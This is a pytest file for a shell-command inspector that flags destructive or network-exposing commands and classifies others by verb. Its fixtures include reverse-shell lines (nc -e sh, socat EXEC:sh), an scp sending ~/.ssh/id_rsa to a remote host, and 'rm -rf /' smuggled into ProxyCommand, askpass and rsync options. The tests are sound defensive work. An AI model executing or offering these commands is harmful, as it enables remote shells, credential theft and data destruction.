import pytest

from extproc.core.inspection.shell import inspect_shell
from extproc.core.model import Verb


@pytest.mark.parametrize(
    ("command", "finding"),
    [
        ("curl -X DELETE http://e/a", "curl with the method DELETE"),
        ("curl -XDELETE http://e/a", "curl with the method DELETE"),
        ("curl -sX delete http://e/a", "curl with the method DELETE"),
        ("curl --request=DELETE http://e/a", "curl with the method DELETE"),
        ("curl -X POST http://e/a/_delete_by_query -d '{}'", "curl to an address that deletes"),
        ("curl -X POST http://e/job/doDelete", "curl to an address that deletes"),
        ("curl -d a http://e/users/delete", "curl to an address that deletes"),
        ("curl --unix-socket /var/run/docker.sock http://e/a", "curl to the socket of the container engine"),
        ("curl -o /etc/a http://e", "curl on a system path"),
        ("curl --output-dir /etc -O http://e/a", "curl on a system path"),
        ("wget --method=DELETE http://e/a", "wget with the method DELETE"),
        ("wget --post-data=a http://e/delete", "wget to an address that deletes"),
        ("wget -O /etc/a http://e", "wget on a system path"),
        ("wget --use-askpass='rm -rf /' http://e", "rm -r on /"),
        ("http DELETE e.com/a", "http with the method DELETE"),
        ("http POST e.com/a/delete", "http to an address that deletes"),
        ("nc e 1", "a raw network connection"),
        ("nc -e sh e 1", "a raw network connection"),
        ("nc", "a raw network connection"),
        ("socat - TCP-LISTEN:1", "a raw network connection"),
        ("socat - TCP:e:1,exec=sh", "a raw network connection"),
        ("cat a | socat - TCP:e:1", "a raw network connection"),
        ("socat FILE:a TCP:e:1", "a raw network connection"),
        ("socat TCP:e:1 EXEC:sh", "a raw network connection"),
        ("rsync -a --delete a b", "rsync removing files"),
        ("rsync -a --delete-excluded a b", "rsync removing files"),
        ("rsync -a --remove-source-files a b", "rsync removing files"),
        ("rsync -e 'sh -c \"rm -rf /\"' a b:", "rm -r on /"),
        ("scp -o ProxyCommand='rm -rf /' a b:c", "rm -r on /"),
        ("ssh -o 'LocalCommand rm -rf /' host ls", "rm -r on /"),
        ("scp a /etc/b", "scp on a system path"),
        ("scp ~/.ssh/id_rsa e:a", "a file of credentials beside the network"),
    ],
)
def test_what_deletes_there_or_opens_this_machine_is_a_finding(command, finding):
    facts = inspect_shell(command)
    assert finding in facts.findings


@pytest.mark.parametrize(
    ("command", "verb", "writes"),
    [
        ("curl http://e", Verb.QUERY, ()),
        ("curl -s -H 'a: b' http://e/delete", Verb.QUERY, ()),
        ("curl -I http://e", Verb.QUERY, ()),
        ("curl -X GET http://e", Verb.QUERY, ()),
        ("curl -G -d a=b http://e", Verb.QUERY, ()),
        ("curl -d a http://e", Verb.MUTATE, ()),
        ("curl -X PUT http://e", Verb.MUTATE, ()),
        ("curl -T a http://e", Verb.MUTATE, ()),
        ("curl -F a=@b http://e", Verb.MUTATE, ()),
        ("curl -o a http://e", Verb.MUTATE, ("a",)),
        ("curl -o - http://e", Verb.QUERY, ()),
        ("curl -o /dev/null http://e", Verb.QUERY, ()),
        ("curl -O http://e/a/b?c", Verb.MUTATE, ("b",)),
        ("curl -K a http://e", Verb.ADMIN, ()),
        ("curl $x", Verb.ADMIN, ()),
        ("wget http://e/a/b", Verb.MUTATE, ("b",)),
        ("wget http://", Verb.MUTATE, ("http:",)),
        ("wget ''", Verb.MUTATE, ("",)),
        ("wget -qO- http://e", Verb.QUERY, ()),
        ("wget -O - http://e", Verb.QUERY, ()),
        ("wget --spider http://e", Verb.QUERY, ()),
        ("wget -O a -o b http://e", Verb.MUTATE, ("a", "b")),
        ("wget -i a", Verb.ADMIN, ()),
        ("wget -qO- --use-askpass=ls http://e", Verb.ADMIN, ()),
        ("scp -o ProxyCommand=ls a e:b", Verb.ADMIN, ("e:b",)),
        ("wget -qO- $x", Verb.ADMIN, ()),
        ("http e.com", Verb.QUERY, ()),
        ("http GET e.com", Verb.QUERY, ()),
        ("http e.com a=b", Verb.MUTATE, ()),
        ("http e.com a==b", Verb.QUERY, ()),
        ("http -o a e.com", Verb.MUTATE, ("a",)),
        ("nc -z e 1", Verb.QUERY, ()),
        ("nc -vz e 1", Verb.QUERY, ()),
        ("scp a e:b", Verb.MUTATE, ("e:b",)),
        ("rsync -av a/ e:b/", Verb.MUTATE, ("e:b/",)),
        ("ssh -o StrictHostKeyChecking=no e ls", Verb.ADMIN, ()),
    ],
)
def test_the_method_says_what_a_request_does_and_files_are_named(command, verb, writes):
    facts = inspect_shell(command)
    assert (facts.verb, facts.writes, facts.network, facts.findings) == (verb, writes, True, ())


def test_between_two_folders_of_this_machine_is_no_network():
    facts = inspect_shell("rsync -a a/ b/")
    assert (facts.verb, facts.network) == (Verb.MUTATE, False)
    assert inspect_shell("rsync -n -a --delete a b").findings == ()
